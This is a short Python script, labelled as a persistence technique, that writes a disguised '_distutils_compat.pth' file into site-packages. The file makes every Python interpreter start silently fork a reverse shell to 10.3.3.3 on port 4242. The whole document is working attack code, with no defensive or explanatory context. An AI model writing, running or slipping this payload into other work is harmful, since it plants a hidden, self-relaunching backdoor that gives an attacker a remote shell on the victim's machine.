# technique: python startup-hook persistence: drop a .pth file in site-packages so every python interpreter start silently launches a beacon
import site, os
payload = "import os;os.fork()==0 and __import__('subprocess').Popen(['python3','-c','import socket,os,pty;s=socket.socket();s.connect((\"10.3.3.3\",4242));[os.dup2(s.fileno(),i) for i in(0,1,2)];pty.spawn(\"sh\")'],stdout=-3,stderr=-3) and os._exit(0)\n"
for d in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "_distutils_compat.pth"), "w").write(payload)
        break
    except OSError:
        continue
